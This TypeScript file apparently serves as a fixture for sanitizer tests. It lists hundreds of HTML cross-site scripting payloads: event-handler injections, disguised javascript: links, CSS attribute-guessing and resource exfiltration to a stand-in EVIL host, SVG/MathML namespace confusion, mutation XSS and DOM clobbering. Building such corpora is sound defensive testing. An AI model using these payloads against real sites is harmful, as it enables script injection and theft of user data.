import { CALL, FOREIGN } from './attempts.ts';

// One payload per line; ⏎ stands for a line break. If nothing stops a payload, it calls RUN or requests EVIL.

/** Elements and attributes with behaviour. */
const HANDLERS = `
<img src=x onerror=RUN>
<img src=x: onerror="RUN">
<IMG SRC=x ONERROR=RUN>
<img/src=x/onerror=RUN>
<img src="x" onerror="&#112;ayloadRan(1)">
<img src=x onerror=&#x70;ayloadRan&lpar;2&rpar;&semi;>
<img src=x onerror⏎=RUN>
<img⏎src=x⏎onerror=RUN>
<img src=x onerror='RUN' title='>'>
<img title="><img src=x onerror=RUN>" src=x onerror=RUN>
<img srcset=x onerror=RUN>
<image src=x onerror=RUN>
<picture><source srcset=x onerror=RUN><img src=x onerror=RUN></picture>
<audio src=x onerror=RUN></audio>
<video src=x onerror=RUN></video>
<video><source src=x onerror=RUN></video>
<video poster=EVIL/poster></video>
<audio autoplay src=EVIL/audio></audio>
<track src=EVIL/track>
<input type=image src=x onerror=RUN>
<input autofocus onfocus=RUN>
<button autofocus onfocus=RUN>b</button>
<a href=# autofocus tabindex=0 onfocus=RUN>a</a>
<p tabindex=0 autofocus onfocus=RUN>p</p>
<details open ontoggle=RUN><summary>s</summary>d</details>
<details ontoggle=RUN open>d</details>
<p onanimationstart=RUN style="animation: fade 1ms">p</p>
<p ontransitionend=RUN style="transition: color 1ms">p</p>
<marquee onstart=RUN loop=1 width=0>m</marquee>
<marquee onfinish=RUN loop=1>m</marquee>
<p onpointerrawupdate=RUN onmouseover=RUN onclick=RUN>p</p>
<p contenteditable onbeforeinput=RUN oninput=RUN>p</p>
<p popover id=pop onbeforetoggle=RUN>p</p><button popovertarget=pop>b</button>
<p oncontentvisibilityautostatechange=RUN style="content-visibility:auto;display:block">p</p>
<form><button formaction="javascript:RUN">b</button></form>
<form action="javascript:RUN"><input type=submit></form>
<form action="EVIL/form" id=f><input name=password></form><button form=f>b</button>
<select onfocus=RUN autofocus><option>o</option></select>
<keygen autofocus onfocus=RUN>
<object data="javascript:RUN"></object>
<object data="EVIL/object"></object>
<object data="data:text/html,<script>parent.RUN</script>"></object>
<embed src="javascript:RUN">
<embed src="EVIL/embed">
<link rel=stylesheet href="EVIL/css">
<link rel=preload as=image href="EVIL/preload">
<link rel=prefetch href="EVIL/prefetch">
<link rel=dns-prefetch href="EVIL"><link rel=preconnect href="EVIL">
<link rel=icon href="EVIL/icon">
<link rel=stylesheet href=x onerror=RUN>
<link rel=manifest href="EVIL/manifest">
<base href="EVIL/"><img src=relative>
<base target=_top><a href=x>a</a>
<meta http-equiv=refresh content="0;url=EVIL/refresh">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=Set-Cookie content="a=b">
<meta http-equiv=Content-Security-Policy content="default-src *">
<meta name=referrer content=unsafe-url>
<applet code=x archive=EVIL/applet></applet>
<bgsound src=EVIL/sound>
<body background=EVIL/background>
<table background=EVIL/table><tr><td background=EVIL/cell>c</td></tr></table>
<p background=EVIL/p>p</p>
<script>RUN</script>
<script src=EVIL/script></script>
<script type=module>RUN</script>
<script src="data:text/javascript,RUN"></script>
<SCRIPT/x>RUN</SCRIPT>
<scr<script>ipt>RUN</script>
<script>/*</script><img src=x onerror=RUN>*/</script>
<iframe src="javascript:parent.RUN"></iframe>
<iframe src="EVIL/frame"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>
<iframe src="data:text/html,<img src=x onerror=parent.RUN>"></iframe>
<iframe onload=RUN></iframe>
<portal src=EVIL/portal onload=RUN></portal>
<fencedframe src=EVIL/fenced></fencedframe>
<dialog open onclose=RUN>d</dialog>
<slot onslotchange=RUN>s</slot>
<x onfocus=RUN autofocus tabindex=1>x</x>
<is-custom is=x onload=RUN>c</is-custom>`;

/** Disguised links and addresses. */
const ADDRESSES = `
<a href="javascript:RUN">a</a>
<a href=" javascript:RUN">a</a>
<a href="\tjavascript:RUN">a</a>
<a href="&#1;javascript:RUN">a</a>
<a href="java&#9;script:RUN">a</a>
<a href="java&#10;script:RUN">a</a>
<a href="java&#13;script:RUN">a</a>
<a href="java&Tab;script:RUN">a</a>
<a href="&NewLine;javascript:RUN">a</a>
<a href="javascript&colon;RUN">a</a>
<a href="&#106;&#97;&#118;&#97;script:RUN">a</a>
<a href="&#x6A&#x61&#x76&#x61&#x73cript:RUN">a</a>
<a href="JaVaScRiPt:RUN">a</a>
<a href="javascript://https://good.example/%0aRUN">a</a>
<a href="javascript:https://good.example;RUN">a</a>
<a href="data:text/html,<script>opener.RUN</script>">a</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>
<a href="vbscript:RUN">a</a>
<a href="livescript:RUN">a</a>
<a href="blob:null/0">a</a>
<a href="filesystem:EVIL/x">a</a>
<a href="feed:javascript:RUN">a</a>
<a href="view-source:javascript:RUN">a</a>
<a href="jar:javascript:RUN!/">a</a>
<a href="//evil.example/relative">a</a>
<a href="/my/?x=1" ping="EVIL/ping">a</a>
<a href="https://good.example" target=_self rel=opener onclick=RUN>a</a>
<a href="https://good.example" attributionsrc="EVIL/attribution">a</a>
<a href="x" download=virus.exe>a</a>
<a xlink:href="javascript:RUN">a</a>
<area href="javascript:RUN"><map name=m><area shape=default href="javascript:RUN"></map>
<img usemap="#m" src=EVIL/map>
<img src="EVIL/pixel">
<img srcset="EVIL/set 1x">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">
<img lowsrc=EVIL/low dynsrc=EVIL/dyn longdesc=EVIL/long>
<q cite="javascript:RUN">q</q><blockquote cite="EVIL/cite">b</blockquote>
<ins cite="javascript:RUN">i</ins><del cite="EVIL/del">d</del>`;

/** Styles that read, cover or request something. */
const STYLES = `
<style>@import "EVIL/import";</style>
<style>* { background: url(EVIL/all) }</style>
<style>input[value^="a"] { background: url(EVIL/guess) }</style>
<style>@font-face { font-family: x; src: url(EVIL/font) } * { font-family: x }</style>
<style>body { display: none }</style>
<style></style/><img src=x onerror=RUN></style>
<p style="background:url(EVIL/inline)">p</p>
<p style="background:\\75rl(EVIL/escaped)">p</p>
<p style="list-style:url(EVIL/list);display:list-item">p</p>
<p style="behavior:url(EVIL/htc)">p</p>
<p style="width:expression(RUN)">p</p>
<p style="-moz-binding:url(EVIL/xbl)">p</p>
<p style="position:fixed;inset:0;z-index:9999;background:red">p</p>
<p style="content:'</p><img src=x onerror=RUN>'">p</p>
<p class="x" style="all:unset">p</p>
<link rel=stylesheet href="data:text/css,@import 'EVIL/data'">
<font face="x" color=red size=7 style="background:url(EVIL/f)">f</font>
<li style="list-style-image:url(EVIL/li)">l</li>
<td style="background-image:image-set('EVIL/set' 1x)">c</td>`;

/** Other namespaces, and mixtures that confuse a parser. */
const NAMESPACES = `
<svg onload=RUN></svg>
<svg><script>RUN</script></svg>
<svg><script href="EVIL/svg"></script></svg>
<svg><script xlink:href="data:text/javascript,RUN"></script></svg>
<svg><a xlink:href="javascript:RUN"><text>t</text></a></svg>
<svg><a href="javascript:RUN"><circle r=9></circle></a></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></animate></svg>
<svg><set onbegin=RUN attributeName=x to=1></set></svg>
<svg><a><animate attributeName=href values="javascript:RUN"></animate><text>t</text></a></svg>
<svg><use href="EVIL/use#x"></use></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x"></use></svg>
<svg><image href="EVIL/image"></image></svg>
<svg><feImage href="EVIL/fe"></feImage></svg>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><style>*{background:url(EVIL/s)}</style></svg>
<svg><title><img src=x onerror=RUN></title></svg>
<svg><desc><img src=x onerror=RUN></desc></svg>
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<svg><p><style><!--</style><img src=x onerror=RUN>--></style></p></svg>
<svg><![CDATA[<img src=x onerror=RUN>]]></svg>
<svg><handler type="application/ecmascript">RUN</handler></svg>
<math href="javascript:RUN">m</math>
<math><maction actiontype="statusline#EVIL" xlink:href="javascript:RUN">m</maction></math>
<math><mi xlink:href="data:x,<script>RUN</script>">m</mi></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>
<math><mtext><img src=x onerror=RUN></mtext></math>
<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;"></style></mglyph></table></mtext></math>
<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=RUN src=x>"></path></textarea></mtext></svg></mglyph></table></mi></math>
<math><annotation-xml><svg><foreignObject><img src=x onerror=RUN></foreignObject></svg></annotation-xml></math>
<table><svg><script>RUN</script></svg></table>
<table><td><math><style><img src=x onerror=RUN></style></math></td></table>
<p><svg><p><img src=x onerror=RUN></p></svg></p>`;

/** Markup that changes its meaning after serialising and parsing, and containers of raw text. */
const MUTATIONS = `
<noscript><p title="</noscript><img src=x onerror=RUN>"></p></noscript>
<noscript><style></noscript><img src=x onerror=RUN></style></noscript>
<noembed><p title="</noembed><img src=x onerror=RUN>"></p></noembed>
<noframes><p title="</noframes><img src=x onerror=RUN>"></p></noframes>
<xmp><p title="</xmp><img src=x onerror=RUN>"></p></xmp>
<textarea><p title="</textarea><img src=x onerror=RUN>"></p></textarea>
<title><p title="</title><img src=x onerror=RUN>"></p></title>
<iframe><p title="</iframe><img src=x onerror=RUN>"></p></iframe>
<template><img src=x onerror=RUN></template>
<template><template><script>RUN</script></template></template>
<template shadowrootmode=open><img src=x onerror=RUN></template>
<p><template shadowrootmode=closed><style>*{background:url(EVIL/shadow)}</style></template></p>
<select><template><img src=x onerror=RUN></template></select>
<select><option><img src=x onerror=RUN></option></select>
<select><style></select><img src=x onerror=RUN></style></select>
<p title="&quot;><img src=x onerror=RUN>">p</p>
<p title="\`><img src=x onerror=RUN>">p</p>
<p title='a"><img src=x onerror=RUN>'>p</p>
<p title=\`\`onmouseover=RUN>p</p>
&lt;img src=x onerror=RUN&gt;
&amp;lt;img src=x onerror=RUN&amp;gt;
&#60;script&#62;RUN&#60;/script&#62;
%3Cimg%20src=x%20onerror=RUN%3E
\\u003cimg src=x onerror=RUN\\u003e
＜img src=x onerror=RUN＞
+ADw-script+AD4-RUN+ADw-/script+AD4-
<!--[if gte IE 4]><script>RUN</script><![endif]-->
<!--><img src=x onerror=RUN>-->
<!---><img src=x onerror=RUN>-->
<!-- --!><img src=x onerror=RUN>-->
<!--<img src="--><img src=x onerror=RUN>">-->
<? <img src=x onerror=RUN> ?>
</ <img src=x onerror=RUN>
<![CDATA[<img src=x onerror=RUN>]]>
<!DOCTYPE x [<!ENTITY e "<img src=x onerror=RUN>">]>&e;
<p/onclick=RUN/style="x"/>p</p>
<p <img src=x onerror=RUN>p</p>
<<img src=x onerror=RUN>
<a href="x"<img src=x onerror=RUN>>a</a>
<table><a href="javascript:RUN">a</a><tr><td><a href="javascript:RUN">b</a></td></tr></table>
<b><i></b><img src=x onerror=RUN></i>
<a><table><a href="javascript:RUN"></table></a>
<p><form><p></form><img src=x onerror=RUN>
<ul><li><ul></li><img src=x onerror=RUN></ul>
${'<b>'.repeat(400)}<img src=x onerror=RUN>${'</b>'.repeat(400)}`;

/** Names that collide with properties that the page's code reads. */
const CLOBBERING = `
<form id=body name=body><input name=childNodes><input name=attributes></form>
<form><input name=nodeType><input name=parentNode><input name=nodeName></form>
<form><input name=localName><input name=childNodes></form>
<form><input id=localName><input name=hasOwnProperty><input name=getAttribute></form>
<img name=querySelector><img name=createElement><img name=getElementById>
<img name=currentScript><img name=cookie><img name=title>
<a id=cabinetEarly></a><a id=cabinetEarly name=config href="EVIL/config">a</a>
<p id=root>p</p><p id=cabinet-config>{"project":"mc"}</p>
<p id=__proto__>p</p><p id=constructor name=prototype>p</p>
<constructor>c</constructor><tostring>t</tostring><valueof>v</valueof><hasownproperty>h</hasownproperty>
<p class=__proto__ data-x=RUN>p</p>
<iframe name=cabinetEarly srcdoc="<a id=config href='EVIL'></a>"></iframe>
<object id=trustedTypes data=x></object>`;

/** Unfinished markup, after which a parser misreads the rest. */
const UNFINISHED = `
<img src=x onerror=RUN
<img src=x onerror=RUN//
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN></style></mglyph></form></mtext></math>
<a href="javascript:RUN">a
<a href="
<!-- <img src=x onerror=RUN>
<script>RUN
<style>*{background:url(EVIL/open)}
<textarea><img src=x onerror=RUN>
<title><img src=x onerror=RUN>
<plaintext><img src=x onerror=RUN>
<xmp><img src=x onerror=RUN>
<noscript><img src=x onerror=RUN>
<template><img src=x onerror=RUN>
<iframe src="javascript:RUN">
<select><img src=x onerror=RUN>
<svg><style><img src=x onerror=RUN>
<svg><![CDATA[<img src=x onerror=RUN>
<math><mtext><table><mglyph><style><img src=x onerror=RUN>
<frameset onload=RUN><frame src="javascript:RUN"></frameset>`;

function payloadsOf(block: string, first: number): string[] {
  return block
    .trim()
    .split('\n')
    .map((payload, index) =>
      payload
        .replaceAll('⏎', '\n')
        .replaceAll('RUN', `${CALL}(${first + index})`)
        .replaceAll('EVIL', `${FOREIGN}/${first + index}`),
    );
}

/** Complete payloads, which other markup may follow. */
export const FINISHED_PAYLOADS = [HANDLERS, ADDRESSES, STYLES, NAMESPACES, MUTATIONS, CLOBBERING].flatMap(
  (block, index) => payloadsOf(block, 1000 * (index + 1)),
);

export const UNFINISHED_PAYLOADS = payloadsOf(UNFINISHED, 7000);
